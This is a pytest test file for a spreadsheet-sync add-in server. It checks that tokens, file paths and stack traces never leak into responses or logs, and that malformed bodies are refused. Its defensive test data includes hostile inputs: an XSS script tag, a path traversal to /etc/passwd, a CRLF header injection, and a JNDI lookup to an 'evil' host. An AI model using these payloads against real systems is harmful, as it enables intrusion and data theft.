"""Nothing of this computer, and no token, in any answer or log line, whatever goes wrong."""

from __future__ import annotations

import json
import logging
import re
import sys
import traceback
from pathlib import Path

import pytest

from sheetsync.addin.application import Application, compute
from sheetsync.model.errors import StaleSnapshot, WriteFailed
from tests.addin.server.site import Heard, kind, made

CANARY = "c4n4ry"
"""Stands in the name of the state folder and in every error."""


@pytest.fixture
def heard():
    listener = Heard()
    root = logging.getLogger()
    before = root.level
    root.addHandler(listener)
    root.setLevel(logging.DEBUG)
    named = [logging.getLogger(name) for name in ("sheetsync.addin", "uvicorn.error", "asyncio")]
    kept = [(logger, logger.propagate, logger.level) for logger in named]
    for logger in named:
        logger.propagate, logger.disabled = True, False
        logger.setLevel(logging.DEBUG)
    yield listener.lines
    root.removeHandler(listener)
    root.setLevel(before)
    for logger, propagate, level in kept:
        logger.propagate = propagate
        logger.setLevel(level)


@pytest.fixture
def server(tmp_path):
    return made(tmp_path / CANARY)


def secrets_of(server):
    """What must never be seen: tokens and their hashes, paths, stacks, our own code."""
    hashes = [token.hash for token in server.tokens.all()]
    paths = [
        str(server.tokens.path),
        CANARY,
        str(Path(__file__).parent),
        sys.prefix,
        "site-packages",
    ]
    return [*server.texts.values(), *hashes, *paths, "Traceback", 'File "', ".py", "line "]


def expect_silence(server, told, heard):
    shown = [told.text, *told.headers.values()]
    for secret in secrets_of(server):
        assert not [text for text in shown if secret in text], secret
        assert not [line for line in heard if secret in line], secret


def raising(error):
    def answer(path, body, now):
        raise error

    return answer


def deep(path, body, now):
    """Fail with a stack of many files and a path in every message."""
    try:
        open(f"/nowhere/{CANARY}/tokens.json")  # noqa: PTH123, SIM115
    except OSError as error:
        raise RuntimeError(f"while reading /nowhere/{CANARY}: {traceback.format_exc()}") from error


FAILURES = [
    deep,
    *map(
        raising,
        (
            OSError(28, "No space left on device", f"/home/{CANARY}/x"),
            PermissionError(13, "denied", f"/home/{CANARY}"),
            FileNotFoundError(2, "missing", f"C:\\Users\\{CANARY}"),
            MemoryError(CANARY),
            KeyError(CANARY),
            ValueError(f"token {CANARY}"),
            RecursionError(CANARY),
            UnicodeEncodeError("utf-8", CANARY, 0, 1, "surrogates"),
            TimeoutError(CANARY),
            AssertionError(CANARY),
            ExceptionGroup(CANARY, [ValueError(CANARY)]),
            WriteFailed(f"The folder /home/{CANARY} is full."),
            StaleSnapshot(f"/home/{CANARY} changed."),
        ),
    ),
]


@pytest.mark.parametrize("failure", FAILURES)
def test_a_failure_tells_its_kind_and_nothing_else(server, heard, failure):
    server.app._answer = failure
    for path in ("/v1/sync", "/v1/tabs"):
        server.at += 10
        told = server.ask(path=path, token="all")
        assert told.status_code == 503
        assert kind(told)
        expect_silence(server, told, heard)


def spoil(path):
    path.chmod(0o600)
    path.write_text(f'{{"{CANARY}"')


def vanish(path):
    path.unlink()
    path.symlink_to(f"/nowhere/{CANARY}")


@pytest.mark.skipif(sys.platform == "win32", reason="files of Windows have no mode")
@pytest.mark.parametrize("harm", [lambda path: path.chmod(0o644), spoil, vanish])
def test_a_token_file_that_cannot_be_used_lets_nobody_in_and_is_not_shown(server, heard, harm):
    harm(server.tokens.path)
    told = server.ask()
    assert (told.status_code, kind(told)) == (503, "setup")
    for secret in (CANARY, "tokens.json", *server.texts.values()):
        assert secret not in told.text
        assert not [line for line in heard if secret in line]


HOSTILE = [
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "%s%s%n{0.__class__}",
    "\r\nSet-Cookie: x=1",
    "\x1b[31mred",
    "${jndi:ldap://evil}",
    "é" * 300,
]


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_what_a_caller_sends_is_neither_told_back_nor_logged(server, heard, text):
    sent = text.encode().decode("latin-1")
    asks = [
        {"path": f"/{text}"},
        {"path": f"/v1/sync?{text}"},
        {"host": sent},
        {"origin": sent},
        {"content_type": sent},
        {"authorization": f"Bearer {sent}"},
        {"user_agent": sent, "referer": sent, "cookie": sent, "x_forwarded_for": sent},
    ]
    for options in asks:
        server.at += 1000
        told = server.ask(**options)
        assert text not in told.text
        assert sent not in "".join(told.headers.values())
        assert not [line for line in heard if text in line or sent in line]
        assert not [line for line in heard if re.search(r"[\r\n\x1b]", line)]


def test_a_token_put_where_it_does_not_belong_is_not_logged(server, heard):
    text = server.texts["all"]
    places = [
        {"method": "GET", "path": f"/taskpane.html?token={text}&_host_Info=Excel"},
        {"method": "GET", "path": f"/{text}.html"},
        {"path": f"/v1/sync/{text}"},
        {"path": f"/v1/sync?token={text}"},
        {"method": text},
        {"host": f"{text}.evil.com"},
        {"body": text.encode()},
    ]
    for options in places:
        server.at += 1000
        told = server.ask(**options)
        assert text not in told.text
        assert text not in "".join(told.headers.values())
    assert len(heard) >= len(places)
    assert not [line for line in heard if text in line]


BODIES = [
    b"",
    b"{",
    b"[]",
    b"null",
    b'"x"',
    b"NaN",
    b'{"version":1}',
    b'{"version":2,"sheets":[]}',
    b'{"version":1,"sheets":{}}',
    b'{"version":1,"sheets":[{"name":5}]}',
    b'\xff\xfe{"version":1}',
    b'\xef\xbb\xbf{"version":1}',
    b"\x80" * 50,
    b'{"version":1,"sheets":[],"c4n4ry":"c4n4ry"}',
    b'{"version":1,"workbook":{"name":"c4n4ry"},"sheets":[],"as_of":"c4n4ry"}',
    b'{"version":1,"workbook":{"name":"x"},"sheets":[],"as_of":"9999-12-31"}',
    b'{"version":1,"workbook":{"name":"x"},"sheets":[],"as_of":"0001-01-01"}',
    b'{"version":1,"workbook":{"name":"x"},"sheets":[{"name":"c4n4ry","values":[["c4n4ry"],[]]}]}',
    b'{"version":1,"workbook":{"name":"x"},"sheets":[{"name":"a","values":[[1e999]]}]}',
    b'{"version":1,"workbook":{"name":"x"},"sheets":[{"name":"a","values":[[{}]]}]}',
    b'{"version":1,"workbook":{"name":"\\ud800"},"sheets":[]}',
    b'{"version":1,"workbook":{"name":"x"},"sheets":[{"name":"a","first_row":99999999}]}',
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b'{"version":1,"sheets":' + b"[" * 5000 + b"]" * 5000 + b"}",
    b'{"version":1,"sheets":[' + b"{}," * 1001 + b"{}]}",
    b"9" * 100_000,
]


@pytest.mark.parametrize("body", BODIES, ids=lambda b: repr(b)[:24])
@pytest.mark.parametrize("path", ["/v1/tabs", "/v1/check", "/v1/sync", "/v1/undo"])
def test_a_body_that_is_no_workbook_is_refused_in_one_sentence(server, heard, path, body):
    server.app._answer = compute
    told = server.ask(path=path, body=body)
    if path == "/v1/tabs" and told.status_code == 200:
        assert told.json()["sheets"] == []
        return
    assert told.status_code in (400, 422)
    assert len(told.text) < 500
    expected = [secret for secret in secrets_of(server) if secret not in ("line ", CANARY)]
    for secret in expected:
        assert secret not in told.text
    assert not [line for line in heard if CANARY in line]


def test_a_stack_is_logged_for_who_asked_for_it(server, heard, monkeypatch):
    monkeypatch.setenv("SHEETSYNC_DEBUG", "1")
    server.app._answer = deep
    assert CANARY not in server.ask().text
    assert [line for line in heard if "Traceback" in line]


def test_only_http_is_spoken(server):
    """A web socket would bring requests that no guard looks over."""
    import anyio

    sent = []

    async def socket():
        async def send(message):
            sent.append(message)

        async def receive():
            return {"type": "websocket.connect"}

        scope = {"type": "websocket", "path": "/v1/sync", "headers": []}
        await Application(server.site, server.tokens)(scope, receive, send)

    anyio.run(socket)
    assert sent == [{"type": "websocket.close", "code": 1008}]


def test_the_log_has_one_line_for_each_request(server, heard):
    server.ask()
    server.ask("GET", "/taskpane.html")
    server.ask(token="wrong")
    told = [line for line in heard if line.startswith("sheetsync.addin")]
    shapes = [re.sub(r"\d+ (bytes|ms)", r"N \1", line) for line in told]
    assert shapes == [
        "sheetsync.addin POST /v1/sync 200, N bytes, N ms",
        "sheetsync.addin GET /taskpane.html 200, N bytes, N ms",
        "sheetsync.addin POST /v1/sync 401, N bytes, N ms",
    ]
    assert json.loads(server.ask().content)
